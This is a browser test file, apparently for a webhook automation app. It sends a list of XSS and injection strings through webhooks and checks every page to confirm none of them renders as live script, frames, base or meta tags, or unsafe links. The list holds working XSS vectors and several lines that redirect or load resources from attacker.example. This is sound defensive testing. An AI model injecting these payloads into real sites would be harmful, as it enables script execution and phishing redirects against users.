/** Stored script attempts in everything that a webhook can carry: shown as texts, on every page that shows them. */
import { ask, capture, inBrowser, newPage, setUp, stands } from "./browser.mjs";
import { settled } from "./furnished.mjs";

/** Texts that become script where a page builds markup from data, or follows addresses from it. */
const ATTEMPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "\"><script>alert(1)</script>",
  "'-alert(1)-'",
  "javascript:alert(1)",
  "</textarea><script>alert(1)</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<style>@import 'http://attacker.example/x.css'</style>",
  "<link rel=stylesheet href=http://attacker.example/x.css>",
  "<base href=http://attacker.example/>",
  "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
  "<form action=http://attacker.example/><button>go</button></form>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202Egnp.exe\u202C \u0000\u0007",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  "data:text/html,<script>alert(1)</script>",
];

await inBrowser(async (browser, trouble) => {
  const page = await newPage(browser, trouble);
  await setUp(page);
  await ask("POST", "/inboxes", { name: "support" });
  await ask("POST", "/fields", { name: "note", kind: "text" });
  const document = {
    name: `Hostile ${ATTEMPTS[0]}`, inbox: "support",
    trigger: { webhook: { identifier: { field: "phone", from: "$.phone" }, map: [{ field: "first_name", from: "$.text" }, { field: "note", from: "$.text" }] } },
    steps: [
      { name: "tell <b>them</b>", action: "send-message", settings: { body: "{{payload.text}}" } },
      { action: "http-request", settings: { method: "GET", url: "https://nowhere.invalid/{{payload.text}}" }, retry: { attempts: 1 }, continue_on_failure: true },
    ],
  };
  const { id, url, key } = await ask("PUT", "/automations", document);
  const captures = [];
  for (const [at, text] of ATTEMPTS.entries()) {
    captures.push(await capture(url, key, { phone: `1215555${String(2000 + at)}`, text, [text]: { deeper: [text] } }));
  }
  const runs = await settled(id, ATTEMPTS.length);

  const { items: contacts } = await ask("GET", "/contacts?limit=100");
  const { items: conversations } = await ask("GET", "/conversations?limit=100");
  const paths = [
    "/", "/automations", `/automations/${id}`, "/runs", "/runs/failed", "/captures", "/contacts", "/conversations", "/outbox", "/lists", "/settings/audit",
    ...runs.map((run) => `/runs/${run.id}`), ...captures.map((capture) => `/captures/${capture}`),
    ...contacts.map((contact) => `/contacts/${contact.id}`), ...conversations.map((conversation) => `/conversations/${conversation.id}`),
  ];
  for (const path of paths) {
    await page.goto(`${new URL(page.url()).origin}/app${path}`);
    await stands(page);
    const made = await page.evaluate(() => document.querySelectorAll("main script, main iframe, main object, main embed, main base, main meta, main link, main [onerror], main [onload]").length);
    if (made > 0) trouble.push(`${path}: data became ${made} elements`);
    const links = await page.evaluate(() => [...document.querySelectorAll("a[href]")].map((a) => a.href).filter((href) => !/^(https?:|mailto:|tel:|blob:)/.test(href)));
    if (links.length > 0) trouble.push(`${path}: links to ${links.join(", ")}`);
  }
  console.log(`${paths.length} pages show ${ATTEMPTS.length} attempts`);
});
